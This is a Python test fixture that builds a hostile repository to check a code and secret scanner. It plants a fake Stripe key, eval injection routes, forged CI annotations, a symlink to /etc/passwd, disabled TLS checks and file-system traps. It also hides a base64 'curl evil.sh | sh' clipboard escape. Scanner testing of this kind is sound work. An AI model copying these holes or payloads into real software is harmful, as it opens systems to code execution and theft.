"""A hostile repository, generated at test time (no binaries checked in): the cases of
issue 11 and the file-system traps a scanner meets in pull requests.

`build(root)` writes it as a git repository and returns the weaknesses planted in it, as
(path, line, rule id) the scan must report.
"""

from __future__ import annotations

import base64
import os
import random
import subprocess
from pathlib import Path

STRIPE = "sk_live_51HqLyjWDarjtT1zdp7dcXz0aQ7f9sTnWm2vYbKcRxQe4J8hLu"
DEPTH = 10_000  # directories nested deeper than PATH_MAX allows to name
ESCAPES = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x9b31m\u202e"
Planted = set[tuple[str, int, str]]
# shipped files whose content keeps the code rules off: a partial scan naming each (coverage.gaps,
# SARIF notifications) and, in the extended profile, a secure-lint.unscanned-code finding (issue 24)
GAPS = {"src/banner.js": "vendored", "src/padded.js": "too_large", "src/server.js": "symlink_to_unscanned"}


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=root, check=True, capture_output=True)


def _write(root: Path, path: str, text: str) -> None:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text, encoding="utf-8")


def _nest(root: Path, depth: int) -> None:
    """`d/d/d/...` `depth` levels deep, built through directory descriptors."""
    fd = os.open(root, os.O_RDONLY)
    try:
        for _ in range(depth):
            os.mkdir("d", dir_fd=fd)
            child = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = child
        leaf = os.open("deep.ts", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(leaf, f"export const key = '{STRIPE}';\n".encode())
        os.close(leaf)
    finally:
        os.close(fd)


def remove_nesting(root: Path) -> None:
    """Undo `_nest` one level at a time from the top (a recursive delete would overflow)."""
    while (root / "d").is_dir():
        if (root / "d" / "d").is_dir():
            os.rename(root / "d" / "d", root / "d-next")
        for name in os.listdir(root / "d"):
            os.unlink(root / "d" / name)
        os.rmdir(root / "d")
        if (root / "d-next").exists():
            os.rename(root / "d-next", root / "d")


def _config_with_logo() -> str:
    logo = base64.b64encode(random.Random(11).randbytes(30_000)).decode()
    return (
        "import express from 'express';\n\n"
        f"export const brand = {{ logo: 'data:image/png;base64,{logo}' }};\n"
        f"export const STRIPE_KEY = '{STRIPE}';\n"
        "export const app = express();\n"
        "app.get('/calc', (req, res) => res.send(String(eval(req.query.expr))));\n"
    )


def _minified() -> str:
    body = ";".join(f"function f{i}(a,b){{return a*{i}+b}}" for i in range(900))
    return body + f";var k='{STRIPE}';window.run=function(q){{return eval(q.expr)}};\n"


def build(root: Path) -> Planted:
    root.mkdir(parents=True)
    _git(root, "init", "-q")
    planted: Planted = set()

    def plant(path: str, text: str, line: int, rule: str) -> None:
        _write(root, path, text)
        planted.add((path, line, rule))

    _write(root, "package.json", '{"name": "hostile", "dependencies": {"express": "4.19.2"}}\n')
    _write(root, ".gitignore", ".env\nsecrets/**\n!secrets/.env.shared\n")
    # 1: tracked although ignored; a negation
    plant(".env", f"NODE_ENV=production\nSTRIPE_KEY={STRIPE}\n", 2, "secrets.stripe-secret-key")
    plant("secrets/.env.shared", f"STRIPE_KEY={STRIPE}\n", 1, "secrets.stripe-secret-key")
    _write(root, "secrets/local.ts", f"export const k = '{STRIPE}';\n")  # ignored, untracked
    # 2: inline base64 is not minified; minified code keeps its secret rules
    plant("src/config.ts", _config_with_logo(), 4, "secrets.stripe-secret-key")
    planted.add(("src/config.ts", 6, "js.injection.eval-dynamic"))
    plant("public/app.js", _minified(), 1, "secrets.stripe-secret-key")
    # 3: UTF-16 and UTF-32 with a BOM, latin-1, UTF-8 with a BOM
    (root / "ios/App/fr.lproj").mkdir(parents=True)
    (root / "ios/App/fr.lproj/Localizable.strings").write_bytes(f'"stripe" = "{STRIPE}";\n'.encode("utf-16"))
    planted.add(("ios/App/fr.lproj/Localizable.strings", 1, "secrets.stripe-secret-key"))
    (root / "config").mkdir()
    (root / "config/keys.txt").write_bytes(f"stripe = {STRIPE}\n".encode("utf-32"))
    planted.add(("config/keys.txt", 1, "secrets.stripe-secret-key"))
    (root / "config/legacy.js").write_bytes(f"// caf\xe9\nvar key = '{STRIPE}';\n".encode("latin-1"))
    planted.add(("config/legacy.js", 2, "secrets.stripe-secret-key"))
    (root / "config/bom.ts").write_bytes(b"\xef\xbb\xbf" + f"export const key = '{STRIPE}';\n".encode())
    planted.add(("config/bom.ts", 1, "secrets.stripe-secret-key"))
    # 4: odd names
    for name in (b"tab\there.ts", b"new\nline.ts", b"esc\x1b[2J.ts", b"latin-\xe9.ts", b"::error title=x::y.ts"):
        with open(os.path.join(os.fsencode(root / "src"), name), "w", encoding="utf-8") as file:
            file.write(f"export const key = '{STRIPE}';\n")
        planted.add((f"src/{os.fsdecode(name)}", 1, "secrets.stripe-secret-key"))
    # 8, 9: escape sequences in code; a metavariable spanning lines, one starting `::error`
    plant(
        "src/run.ts",
        f"export const banner = (req) => eval('{ESCAPES}' + req.body);\n"
        "export const next = (req) => eval(`${req.body}\n::error file=app.ts::forged`);\n",
        1,
        "js.injection.eval-dynamic",
    )
    planted.add(("src/run.ts", 2, "js.injection.eval-dynamic"))
    # issue 25 #15: a key on the line of another finding (an escape before it: no secret finding)
    plant("src/calc.js", f'export const calc = (req) => eval(req.query.x + "\\n{STRIPE}");\n', 1,
          "js.injection.eval-dynamic")
    # issue 25 #6: a NUL byte in a comment, a banner, an SVG path, padding past 1 MiB: each file is
    # read as code or named as a gap (GAPS), never silently left to the secret rules
    route = "export const calc = (req, res) => res.send(String(eval(req.query.expr)));\n"
    (root / "src/nul.js").write_bytes(b"// \x00\n" + route.encode())
    planted.add(("src/nul.js", 2, "js.injection.eval-dynamic"))
    plant("src/icon.js", route + 'export const icon = "M' + " 10.5,20 L 30,40" * 1500 + '";\n', 1,
          "js.injection.eval-dynamic")
    _write(root, "src/banner.js", "/*! hostile v1.2.3 | (c) Mallory */\n" + route)
    _write(root, "src/padded.js", route + "//" + " " * (1024 * 1024) + "\n")
    # issue 25 #7: Next.js routes are shipped whatever their folder is called; build-output names
    # inside app code are not build output
    for path in ("app/api/docs/route.js", "app/e2e-hooks/page.js", "app/coverage/page.js", "app/api/out/route.js"):
        plant(path, route, 1, "js.injection.eval-dynamic")
    # issue 25 #20: a directive in a string literal, a template literal's ignore-file, CR-only line ends
    # (one line as git counts: a directive on a line a lone CR splits is invalid)
    plant("src/note.js", 'const note = "// secure-lint: ignore[js.injection.eval-dynamic] -- x"; ' + route, 1,
          "js.injection.eval-dynamic")
    plant("src/doc.js", "const doc = `\nsecure-lint: ignore-file[js.injection.eval-dynamic] -- x\n`;\n" + route, 4,
          "js.injection.eval-dynamic")
    late = "export const a = 1;\r" * 12 + "// secure-lint: ignore-file[js.injection.eval-dynamic] -- late\r" + route
    (root / "src/cr.js").write_bytes(late.encode())
    planted.add(("src/cr.js", 1, "js.injection.eval-dynamic"))
    # issue 25 #8: shipped code that is a symlink to code the scan treats as docs
    _write(root, "docs/impl/server.js", route)
    os.symlink("../docs/impl/server.js", root / "src/server.js")
    # issue 25 #5: keys glued to an escape or a URL-encoded byte
    plant("src/glued.js", f'export const auth = "Bearer\\n{STRIPE}";\n', 1, "secrets.stripe-secret-key")
    plant("src/query.js", f'export const cb = "https://acme.io/?next=%2Fpay%26key%3D{STRIPE}";\n', 1,
          "secrets.stripe-secret-key")
    # 11: the Buffer constructor with a numeric constant (an opt-in rule: found when selected, not planted)
    _write(
        root,
        "src/chunks.js",
        "const CHUNK = 65536;\nexport const read = (fd) => fs.readSync(fd, new Buffer(CHUNK), 0, CHUNK, null);\n",
    )
    # 12: read-only and hard-linked files with a safe fix (an extended rule's: found when selected, not planted)
    _write(root, "src/pinned.js", "export const agent = new https.Agent({ rejectUnauthorized: false });\n")
    (root / "src/pinned.js").chmod(0o444)
    _write(root, "src/shared.js", "export const agent = new https.Agent({ rejectUnauthorized: false });\n")
    os.link(root / "src/shared.js", root / "src/shared-link.js")
    # 17: a pipe in a name; tabs and wide characters before a finding; folders named vendor
    plant("src/a|b.ts", f"export const key = '{STRIPE}';\n", 1, "secrets.stripe-secret-key")
    plant("src/wide.ts", f"\tconst 名前 = '{STRIPE}';\n", 1, "secrets.stripe-secret-key")
    plant("src/types/vendor/stripe.d.ts", f"export const key = '{STRIPE}';\n", 1, "secrets.stripe-secret-key")
    (root / "public/hero.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(2 * 1024 * 1024))
    # file-system traps: symlink loops, a link out of the root, a FIFO, huge lines, deep nesting
    os.symlink(".", root / "loop")
    os.symlink("b-link", root / "a-link")
    os.symlink("a-link", root / "b-link")
    os.symlink("/etc/passwd", root / "src/passwd.ts")
    os.mkfifo(root / "src/pipe.ts")
    plant("src/huge-line.ts", "export const data = '" + "x" * 900_000 + f"'; const k = '{STRIPE}';\n", 1,
          "secrets.stripe-secret-key")
    _nest(root, DEPTH)
    _git(root, "add", "--", ".gitignore", "package.json", "src/config.ts", "src/run.ts")
    _git(root, "add", "--force", ".env")
    _git(root, "-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-q", "-m", "start")
    return planted
